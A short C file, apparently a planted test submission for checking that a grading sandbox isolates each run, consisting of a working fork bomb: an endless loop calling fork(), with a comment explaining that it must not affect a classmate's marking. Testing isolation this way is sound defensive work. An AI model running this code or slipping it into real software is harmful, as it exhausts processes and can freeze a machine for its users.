/* Planted: a fork bomb. Every process it starts starts more, for ever.
   Marked beside a classmate's submission, it must cost that classmate
   nothing: each run has its own processes to spend. */
#define _POSIX_C_SOURCE 200809L
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
